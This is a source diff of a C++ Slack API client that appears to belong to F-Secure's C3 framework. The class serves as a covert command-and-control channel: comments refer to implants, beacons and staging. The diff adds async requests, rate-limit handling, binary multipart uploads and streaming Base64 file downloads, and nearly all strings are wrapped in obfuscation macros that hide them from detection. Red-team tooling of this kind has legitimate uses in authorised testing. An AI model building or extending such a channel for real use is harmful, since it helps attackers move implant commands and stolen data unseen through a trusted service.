@@ -1,16 +1,64 @@
 #include "stdafx.h"
 #include "SlackApi.h"
+#include "Common/FSecure/Crypto/Base64.h"
 #include <random>
 #include <cctype>
 #include <algorithm>
 
+namespace
+{
+	/// Downloaded files are read and decoded in chunks of this size.
+	constexpr size_t s_DownloadChunkSize = 64 * 1024;
+
+	/// File being decoded from Base64 while it is downloaded.
+	struct Base64Download
+	{
+		concurrency::streams::streambuf<uint8_t> m_Body;																///< Body of the response.
+		std::vector<uint8_t> m_Chunk = std::vector<uint8_t>(s_DownloadChunkSize);										///< Buffer for the last read chunk.
+		std::string m_Pending;																							///< Text that doesn't make whole Base64 quads yet.
+		std::string m_Decoded;																							///< Data decoded so far.
+	};
+
+	/// Read the rest of the body, decoding every chunk right after it is read.
+	/// @param download - state of the download.
+	/// @return - task finished when the whole body is read and decoded.
+	pplx::task<void> ReadAndDecode(std::shared_ptr<Base64Download> download)
+	{
+		return download->m_Body.getn(download->m_Chunk.data(), download->m_Chunk.size()).then([download](size_t read) -> pplx::task<void>
+		{
+			if (!read)
+			{
+				if (!download->m_Pending.empty())
+					throw std::invalid_argument{ OBF("Downloaded file is not valid Base64.") };
+
+				return pplx::task_from_result();
+			}
+
+			download->m_Pending.append(download->m_Chunk.begin(), download->m_Chunk.begin() + read);
+			if (auto whole = download->m_Pending.size() / 4 * 4)
+			{
+				auto decoded = FSecure::Base64::Decode(std::string_view{ download->m_Pending }.substr(0, whole));
+				download->m_Decoded.append(decoded.begin(), decoded.end());
+				download->m_Pending.erase(0, whole);
+			}
+
+			return ReadAndDecode(download);
+		});
+	}
+}
 
 FSecure::Slack::Slack(std::string const& token, std::string const& channelName)
 {
+	web::http::client::http_client_config config;
 	if (auto winProxy = WinTools::GetProxyConfiguration(); !winProxy.empty())
-		this->m_HttpConfig.set_proxy(winProxy == OBF(L"auto") ? web::web_proxy::use_auto_discovery : web::web_proxy(winProxy));
+		config.set_proxy(winProxy == OBF(L"auto") ? web::web_proxy::use_auto_discovery : web::web_proxy(winProxy));
 
-	this->m_Token = token;
+	this->m_HttpClients = HttpClientPool{ config };
+
+	// Files carrying big packets are downloaded from another host. Its connection is opened now instead of delaying the first such packet.
+	this->m_HttpClients.Warm(OBF("https://files.slack.com/"));
+
+	SetToken(token);
 
 	std::string lowerChannelName = channelName;
 	std::transform(lowerChannelName.begin(), lowerChannelName.end(), lowerChannelName.begin(), [](unsigned char c) { return std::tolower(c); });
@@ -26,18 +74,19 @@ void FSecure::Slack::SetChannel(std::string const& channelId)
 void FSecure::Slack::SetToken(std::string const& token)
 {
 	this->m_Token = token;
+	this->m_RateLimiter = SlackRateLimiter::Get(token);
 }
 
 std::string FSecure::Slack::WriteMessage(std::string const& text)
 {
 	json j;
-	j[OBF("channel")] = this->m_Channel;
-	j[OBF("text")] = text;
-	std::string url = OBF("https://slack.com/api/chat.postMessage");
+	j[OBF_CACHED("channel")] = this->m_Channel;
+	j[OBF_CACHED("text")] = text;
+	std::string url = OBF_CACHED("https://slack.com/api/chat.postMessage");
 
 	json output = SendJsonRequest(url, j);
 
-	return output[OBF("message")][OBF("ts")].get<std::string>(); //return the timestamp so a reply can be viewed
+	return output[OBF_CACHED("message")][OBF_CACHED("ts")].get<std::string>(); //return the timestamp so a reply can be viewed
 }
 
 
@@ -90,46 +139,51 @@ std::string FSecure::Slack::CreateChannel(std::string const& channelName)
 }
 
 
-std::vector<std::pair<std::string, std::string>> FSecure::Slack::ReadReplies(std::string const& timestamp)
+std::vector<FSecure::Slack::Reply> FSecure::Slack::ReadReplies(std::string const& timestamp, bool isFileBase64)
 {
-	std::string url = OBF("https://slack.com/api/conversations.replies?channel=") + this->m_Channel + OBF("&ts=") + timestamp;
-	json output = SendJsonRequest(url, NULL);
-
-	//This logic is really messy, in reality the checks are over cautious, however there is an edgecase
-	//whereby a message could be created with no replies of the implant that wrote triggers an exception or gets killed.
-	//If that was the case, and we didn't sanity check, we could run into problems.
-	if (!output.contains(OBF("messages")))
-		return {};
-
-	json const& messages = output[OBF("messages")];
-	if (!messages[0].contains(OBF("replies")))
-		return {};
+	return ReadRepliesAsync(timestamp, isFileBase64).get();
+}
 
-	std::vector<std::pair<std::string, std::string>> ret;
-	if (auto const& firstReply = messages[1]; firstReply.contains(OBF("files"))) //the reply contains a file, handle this differently
-	{
-		std::string ts = firstReply[OBF("ts")];
-		std::string fileUrl = firstReply[OBF("files")][0][OBF("url_private")].get<std::string>();
-		std::string text = GetFile(fileUrl);
-		ret.emplace_back(std::move(ts), std::move(text));
-	}
-	else
+pplx::task<std::vector<FSecure::Slack::Reply>> FSecure::Slack::ReadRepliesAsync(std::string const& timestamp, bool isFileBase64)
+{
+	std::string url = OBF_CACHED("https://slack.com/api/conversations.replies?channel=") + this->m_Channel + OBF_CACHED("&ts=") + timestamp;
+	return SendJsonRequestAsync(url, NULL).then([this, isFileBase64](json output) -> pplx::task<std::vector<Reply>>
 	{
+		//This logic is really messy, in reality the checks are over cautious, however there is an edgecase
+		//whereby a message could be created with no replies of the implant that wrote triggers an exception or gets killed.
+		//If that was the case, and we didn't sanity check, we could run into problems.
+		std::vector<Reply> ret;
+		if (!output.contains(OBF_CACHED("messages")))
+			return pplx::task_from_result(ret);
+
+		json const& messages = output[OBF_CACHED("messages")];
+		if (!messages[0].contains(OBF_CACHED("replies")))
+			return pplx::task_from_result(ret);
+
+		if (auto const& firstReply = messages[1]; firstReply.contains(OBF_CACHED("files"))) //the reply contains a file, handle this differently
+		{
+			std::string ts = firstReply[OBF_CACHED("ts")];
+			std::string fileUrl = firstReply[OBF_CACHED("files")][0][OBF_CACHED("url_private")].get<std::string>();
+			return GetFileAsync(fileUrl, isFileBase64).then([ts](std::string content) -> std::vector<Reply>
+			{
+				return { { ts, std::move(content), true } };
+			});
+		}
+
 		for (size_t i = 1u; i < messages.size(); i++) //skip the first message (parent message) (it doesn't contain the data we want).
 		{
 			auto& reply = messages[i];
-			auto ts = reply[OBF("ts")].get<std::string>();
-			auto text = reply[OBF("text")].get<std::string>();
-			ret.emplace_back(std::move(ts), std::move(text));
+			auto ts = reply[OBF_CACHED("ts")].get<std::string>();
+			auto text = reply[OBF_CACHED("text")].get<std::string>();
+			ret.push_back({ std::move(ts), std::move(text) });
 		}
-	}
-	return ret;
+		return pplx::task_from_result(ret);
+	});
 }
 
-std::vector<std::string>  FSecure::Slack::GetMessagesByDirection(std::string const& direction)
+std::vector<FSecure::Slack::Message> FSecure::Slack::ListMessages(std::string const& oldest)
 {
-	std::vector<std::string> ret;
-	json resp;
+	std::vector<Message> ret;
 	std::string cursor;
 
 	//Slack suggest only requesting the 200 most recent messages.
@@ -138,43 +192,48 @@ std::vector<std::string>  FSecure::Slack::GetMessagesByDirection(std::string con
 	//This only becomes a problem with lots of beacons (especially if many are staging at the same time)
 	do
 	{
-		std::string url = OBF("https://slack.com/api/conversations.history?limit=200&channel=") + this->m_Channel;
+		std::string url = OBF_CACHED("https://slack.com/api/conversations.history?limit=200&channel=") + this->m_Channel;
+
+		//Older messages are already known to the caller, so Slack doesn't have to page through them.
+		if (!oldest.empty())
+			url.append(OBF_CACHED("&inclusive=true&oldest=") + oldest);
 
 		//Will be empty on the first run, if has_more == false this won't be executed again
 		if (!cursor.empty())
-			url.append(OBF("&cursor=") + cursor);
+			url.append(OBF_CACHED("&cursor=") + cursor);
 
 		//Actually send the http request and grab the messages
 		auto resp = SendJsonRequest(url, NULL);
-
-		auto& messages = resp[OBF("messages")];
+		for (auto& m : resp[OBF_CACHED("messages")])
+			ret.push_back({ m[OBF_CACHED("ts")].get<std::string>(), m.value(OBF_CACHED("text"), std::string{}) });
 
 		//if there are more than 200 messages, we don't want to miss any, so update the cursor.
-		if(resp[OBF("has_more")] == OBF("true"))
-			cursor = resp[OBF("next_cursor")];
+		cursor.clear();
+		if (resp.value(OBF_CACHED("has_more"), false))
+			cursor = resp[OBF_CACHED("response_metadata")].value(OBF_CACHED("next_cursor"), std::string{});
+	} while (!cursor.empty());
 
-		//now grab the 200 messages data.
-		for (auto &m : messages)
-		{
-			std::string_view data = m[OBF("text")].get<std::string_view>();
+	return ret;
+}
 
-			//make sure it's a message we care about
-			if (data == direction)
-				ret.emplace_back(m[OBF("ts")].get<std::string>());
-		}
-	} while (resp[OBF("has_more")] == OBF("true"));
+std::vector<std::string>  FSecure::Slack::GetMessagesByDirection(std::string const& direction, std::string const& oldest)
+{
+	std::vector<std::string> ret;
+	for (auto& message : ListMessages(oldest))
+		if (message.m_Text == direction) //make sure it's a message we care about
+			ret.push_back(std::move(message.m_Timestamp));
 
 	return ret;
 }
 
 void FSecure::Slack::UpdateMessage(std::string const& message, std::string const& timestamp)
 {
-	std::string url = OBF("https://slack.com/api/chat.update");
+	std::string url = OBF_CACHED("https://slack.com/api/chat.update");
 
 	json j;
-	j[OBF("channel")] = this->m_Channel;
-	j[OBF("text")] = message;
-	j[OBF("ts")] = timestamp;
+	j[OBF_CACHED("channel")] = this->m_Channel;
+	j[OBF_CACHED("text")] = message;
+	j[OBF_CACHED("ts")] = timestamp;
 
 	SendJsonRequest(url, j);
 }
@@ -184,70 +243,153 @@ void FSecure::Slack::WriteReply(std::string const& text, std::string const& time
 	assert(text.size() <= 40'000);
 
 	json j;
-	j[OBF("channel")] = this->m_Channel;
-	j[OBF("text")] = text;
-	j[OBF("thread_ts")] = timestamp;
-	std::string url = OBF("https://slack.com/api/chat.postMessage");
+	j[OBF_CACHED("channel")] = this->m_Channel;
+	j[OBF_CACHED("text")] = text;
+	j[OBF_CACHED("thread_ts")] = timestamp;
+	std::string url = OBF_CACHED("https://slack.com/api/chat.postMessage");
 
 	SendJsonRequest(url, j);
 }
 
 void FSecure::Slack::DeleteMessage(std::string const& timestamp)
+{
+	DeleteMessageAsync(timestamp).get();
+}
+
+pplx::task<void> FSecure::Slack::DeleteMessageAsync(std::string const& timestamp)
 {
 	json j;
-	j[OBF("channel")] = this->m_Channel;
-	j[OBF("ts")] = timestamp;
-	std::string url = OBF("https://slack.com/api/chat.delete");
+	j[OBF_CACHED("channel")] = this->m_Channel;
+	j[OBF_CACHED("ts")] = timestamp;
+	std::string url = OBF_CACHED("https://slack.com/api/chat.delete");
 
-	SendJsonRequest(url, j);
+	return SendJsonRequestAsync(url, j).then([](json const&) {});
+}
+
+std::chrono::steady_clock::duration FSecure::Slack::EstimateCallTime(std::string const& method, size_t calls)
+{
+	return m_RateLimiter ? m_RateLimiter->Estimate(method, calls) : std::chrono::steady_clock::duration{};
+}
+
+std::unique_ptr<FSecure::SlackRateLimiter::Poller> FSecure::Slack::CreatePoller()
+{
+	return m_RateLimiter ? std::make_unique<SlackRateLimiter::Poller>(m_RateLimiter, OBF("conversations.history")) : nullptr;
 }
 
 std::string FSecure::Slack::SendHttpRequest(std::string const& host, std::string const& contentType, std::string const& data)
 {
-	while (true)
+	return SendHttpRequestAsync(host, contentType, data).get();
+}
+
+pplx::task<std::string> FSecure::Slack::SendHttpRequestAsync(std::string const& host, std::string const& contentType, std::string const& data)
+{
+	return SendRequestAsync(host, contentType, data).then([](web::http::http_response resp) { return resp.extract_utf8string(); });
+}
+
+pplx::task<web::http::http_response> FSecure::Slack::SendRequestAsync(std::string const& host, std::string const& contentType, std::string const& data)
+{
+	web::http::http_request request; // default request is GET
+
+	if (!data.empty())
 	{
-		web::http::client::http_client webClient(utility::conversions::to_string_t(host), this->m_HttpConfig);
-		web::http::http_request request; // default request is GET
+		request.set_method(web::http::methods::POST);
 
-		if (!data.empty())
-		{
-			request.set_method(web::http::methods::POST);
+		request.headers().set_content_type(utility::conversions::to_string_t(contentType));
+		request.set_body(std::vector<unsigned char>{ data.begin(), data.end() });
+	}
 
-			request.headers().set_content_type(utility::conversions::to_string_t(contentType));
-			request.set_body(utility::conversions::to_string_t(data));
-		}
+	request.headers().add(OBF_CACHED(L"Authorization"), OBF_CACHED(L"Bearer ") + utility::conversions::to_string_t(this->m_Token));
 
-		request.headers().add(OBF(L"Authorization"), OBF(L"Bearer ") + utility::conversions::to_string_t(this->m_Token));
+	auto delay = m_RateLimiter ? m_RateLimiter->Reserve(host) : std::chrono::steady_clock::duration{};
+	auto send = [this, host, request]()
+	{
+		auto start = std::chrono::steady_clock::now();
+		return this->m_HttpClients.Request(host, request).then([this, host, start](web::http::http_response resp)
+		{
+			if (m_RateLimiter && resp.status_code() == web::http::status_codes::OK)
+				m_RateLimiter->RecordLatency(host, std::chrono::steady_clock::now() - start);
 
-		web::http::http_response resp = webClient.request(request).get();
+			return resp;
+		});
+	};
+	auto response = delay.count() > 0 ? pplx::create_task([delay] { std::this_thread::sleep_for(delay); }).then(send) : send();
 
+	return response.then([this, host, contentType, data](web::http::http_response resp) -> pplx::task<web::http::http_response>
+	{
 		if (resp.status_code() == web::http::status_codes::OK)
-			return resp.extract_utf8string().get();
+			return pplx::task_from_result(resp);
 		else if (resp.status_code() == web::http::status_codes::TooManyRequests)
-			std::this_thread::sleep_for(Utils::GenerateRandomValue(10s, 20s));
+		{
+			// Slack tells how long to wait. Fall back to a long pause if it doesn't.
+			auto retryAfter = Utils::GenerateRandomValue(10s, 20s);
+			if (auto header = resp.headers().find(OBF_CACHED(L"Retry-After")); header != resp.headers().end())
+				try
+				{
+					retryAfter = std::chrono::seconds{ std::stoul(header->second) };
+				}
+				catch (std::exception&)
+				{
+				}
+
+			if (!m_RateLimiter)
+				return pplx::create_task([retryAfter] { std::this_thread::sleep_for(retryAfter); }).then([this, host, contentType, data] { return SendRequestAsync(host, contentType, data); });
+
+			m_RateLimiter->Block(host, retryAfter);
+			return SendRequestAsync(host, contentType, data);
+		}
 		else
 			throw std::exception(OBF("[x] Non 200/429 HTTP Response\n"));
-	}
+	});
 }
 
 json FSecure::Slack::SendJsonRequest(std::string const& url, json const& data)
 {
-	return json::parse(SendHttpRequest(url, OBF("application/json"), data.dump()));
+	return SendJsonRequestAsync(url, data).get();
 }
 
-void FSecure::Slack::UploadFile(std::string const& data, std::string const& ts)
+pplx::task<json> FSecure::Slack::SendJsonRequestAsync(std::string const& url, json const& data)
 {
-	std::string url = OBF_STR("https://slack.com/api/files.upload?") + OBF("&channels=") + this->m_Channel + OBF("&thread_ts=") + ts;
+	return SendHttpRequestAsync(url, OBF_CACHED("application/json"), data.dump()).then([](std::string const& response) { return json::parse(response); });
+}
 
-	std::string encoded = utility::conversions::to_utf8string(web::http::uri::encode_data_string(utility::conversions::to_string_t(data)));
+void FSecure::Slack::UploadFile(ByteView data, std::string const& ts)
+{
+	std::string url = OBF_STR("https://slack.com/api/files.upload?") + OBF("&channels=") + this->m_Channel + OBF("&thread_ts=") + ts;
 
-	std::string toSend = OBF("filename=test5&content=") + encoded;
+	// Multipart upload sends the file as it is, url encoding of text content would inflate it up to three times.
+	auto boundary = Utils::GenerateRandomString(32);
+	std::string toSend = OBF_STR("--") + boundary + OBF("\r\nContent-Disposition: form-data; name=\"file\"; filename=\"test5\"\r\nContent-Type: application/octet-stream\r\n\r\n");
+	toSend.append(data.begin(), data.end());
+	toSend += OBF_STR("\r\n--") + boundary + OBF("--\r\n");
 
-	SendHttpRequest(url, OBF("application/x-www-form-urlencoded"), toSend);
+	SendRequestAsync(url, OBF_STR("multipart/form-data; boundary=") + boundary, toSend).get();
 }
 
+std::string FSecure::Slack::GetFile(std::string const& url, bool isBase64)
+{
+	return GetFileAsync(url, isBase64).get();
+}
 
-std::string FSecure::Slack::GetFile(std::string const& url)
+pplx::task<std::string> FSecure::Slack::GetFileAsync(std::string const& url, bool isBase64)
 {
-	return SendHttpRequest(url, "", "");
+	// Content is read as bytes, because files can be binary.
+	if (!isBase64)
+		return SendRequestAsync(url, "", "").then([](web::http::http_response resp) { return resp.extract_vector(); }).then([](std::vector<unsigned char> const& content)
+		{
+			return std::string{ content.begin(), content.end() };
+		});
+
+	// Body is decoded while the rest of it is still being received, instead of after the whole text is buffered.
+	return SendRequestAsync(url, "", "").then([](web::http::http_response resp)
+	{
+		auto download = std::make_shared<Base64Download>();
+		download->m_Body = resp.body().streambuf();
+		if (auto length = resp.headers().content_length())
+			download->m_Decoded.reserve(static_cast<size_t>(Base64::DecodedMaxSize(length)));
+
+		return ReadAndDecode(download).then([download]
+		{
+			return std::move(download->m_Decoded);
+		});
+	});
 }